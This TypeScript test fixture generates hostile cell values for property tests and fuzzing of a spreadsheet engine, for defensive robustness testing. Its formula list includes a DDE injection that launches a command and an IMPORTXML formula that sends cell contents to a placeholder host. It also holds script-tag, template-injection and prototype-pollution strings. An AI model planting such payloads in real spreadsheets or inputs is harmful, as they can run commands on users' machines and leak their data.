/**
 * Hostile cell values (fast-check arbitraries) for the property tests and `npm run fuzz`: numbers of every
 * size and sign, NaN-like text, full-width digits, 万元 suffixes, percent strings, dates, booleans, Excel
 * errors, very long strings, formula-like text, emoji and control characters.
 */
import fc from "fast-check";
import type { CellValue } from "../../src/engine/model/cell";

const NUMBER_TEXT = [
  "NaN",
  "nan",
  "Infinity",
  "-Infinity",
  "∞",
  "-",
  "—",
  "N/A",
  "无",
  "空",
  "null",
  "undefined",
  "0x1F",
  "1e309",
  "-1e309",
  "1e-400",
  "00012",
  "1,234.56",
  "1 234,56",
  "12.345.678",
  ".5",
  "5.",
  "+5",
  "--5",
  "(5)",
  "¥1,000",
  "$5",
];
const FULL_WIDTH = [
  "１２３",
  "１２３．４５",
  "－１２",
  "１，２３４．５",
  "１２％",
  "９５．５％",
  "２０２０",
  "２０２０年",
];
const WAN_YUAN = [
  "12.5万元",
  "226.86万元",
  "1,234万元",
  "-3万元",
  "万元",
  "12万",
  "3.5亿元",
  "１２万元",
  "12.5 万元",
  "12.5元",
];
const PERCENT = ["95%", "100%", "150%", "-3%", "0%", "95 %", "95％", "%", "12.5%%", "1e3%", "0.5%"];
const DATE_TEXT = ["2020-01-01", "2020/12/31", "2020年12月31日", "2020-13-45", "31/12/2020", "二〇二〇年", "2020"];
const BOOL_TEXT = ["TRUE", "FALSE", "true", "是", "否", "Y", "N", "√", "×", "对", "错"];
const ERROR_TEXT = [
  "#DIV/0!",
  "#N/A",
  "#VALUE!",
  "#REF!",
  "#NAME?",
  "#NUM!",
  "#NULL!",
  "#SPILL!",
  "#CALC!",
  "#GETTING_DATA",
];
const FORMULA_TEXT = [
  "=1+1",
  "=SUM(A1:A9)",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  '=HYPERLINK("http://example.invalid","x")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
  "+",
  "-",
  "=",
  "@",
  "= 1",
  "=\u0000",
];
const WEIRD_TEXT = [
  "😀",
  "👨‍👩‍👧‍👦",
  "🇨🇳",
  "\u0000",
  "\u0007\b\t",
  "\r\n",
  "\u202e反向",
  "\ufeff",
  "\ud800",
  "\udfff",
  "\u200b",
  "　",
  " ",
  "",
  "'",
  '"',
  "<script>",
  "&amp;",
  "]]>",
  "${x}",
  "{{x}}",
  "%s%s",
  "\\",
  "..",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
];
const LONG_TEXT = ["x".repeat(100_000), "9".repeat(400), "1".repeat(32_767), "万".repeat(40_000), `${"9".repeat(30)}%`];

/** Every hand-picked hostile text above. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...NUMBER_TEXT,
  ...FULL_WIDTH,
  ...WAN_YUAN,
  ...PERCENT,
  ...DATE_TEXT,
  ...BOOL_TEXT,
  ...ERROR_TEXT,
  ...FORMULA_TEXT,
  ...WEIRD_TEXT,
  ...LONG_TEXT,
];

/** Texts that a spreadsheet would take for a formula if written as a value without care. */
export const FORMULA_LIKE: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  '=HYPERLINK("http://example.invalid","x")',
  "=cmd|' /C calc'!A0",
];

const number: fc.Arbitrary<number> = fc.oneof(
  fc.double(),
  fc.double({ min: -1e3, max: 1e3, noNaN: true }),
  fc.integer(),
  fc.constantFrom(
    0,
    -0,
    1,
    -1,
    0.005,
    0.1 + 0.2,
    1e15,
    1e21,
    1e308,
    -1e308,
    5e-324,
    Number.MAX_SAFE_INTEGER + 2,
    NaN,
    Infinity,
    -Infinity,
  ),
);

const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 1, arbitrary: number.map((n) => String(n)) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...FORMULA_TEXT, ...WAN_YUAN, ...PERCENT), fc.string({ maxLength: 8 }))
      .map(([a, b]) => a + b),
  },
);

const isoDate: fc.Arbitrary<string> = fc.oneof(
  fc.date({ min: new Date(-2e12), max: new Date(1e13), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
  fc.constantFrom("1900-01-01", "1899-12-30", "9999-12-31", "2020-02-30", "0000-00-00", "not a date", ""),
);

/** Any value a host could hand the engine for one cell (and some no host should). */
export const hostileCell: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 1, arbitrary: fc.constant<CellValue>({ t: "empty" }) },
  { weight: 4, arbitrary: number.map((v): CellValue => ({ t: "n", v })) },
  { weight: 6, arbitrary: text.map((v): CellValue => ({ t: "s", v })) },
  { weight: 1, arbitrary: fc.boolean().map((v): CellValue => ({ t: "b", v })) },
  { weight: 1, arbitrary: isoDate.map((v): CellValue => ({ t: "d", v })) },
  { weight: 1, arbitrary: fc.constantFrom(...ERROR_TEXT).map((v): CellValue => ({ t: "e", v })) },
);

/** Characters XML 1.0 (and so .xlsx) cannot hold: C0 controls other than tab/CR/LF, lone surrogates, U+FFFE/FFFF. */
function hasXmlIllegal(text: string): boolean {
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if ((c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d) || c === 0xfffe || c === 0xffff) return true;
    if (c >= 0xd800 && c <= 0xdbff) {
      const next = text.charCodeAt(i + 1);
      if (!(next >= 0xdc00 && next <= 0xdfff)) return true;
      i++;
    } else if (c >= 0xdc00 && c <= 0xdfff) return true;
  }
  return false;
}

/** Values a real .xlsx cell can hold (finite numbers, text without NUL/lone surrogates, booleans, dates, errors). */
export const xlsxCell: fc.Arbitrary<CellValue> = hostileCell.filter(
  (c) =>
    (c.t !== "n" || Number.isFinite(c.v)) &&
    (c.t !== "s" || (c.v.length <= 32_767 && !hasXmlIllegal(c.v))) &&
    (c.t !== "d" || (/^\d{4}-\d{2}-\d{2}$/.test(c.v) && !Number.isNaN(Date.parse(c.v)) && c.v >= "1900-03-01")),
);
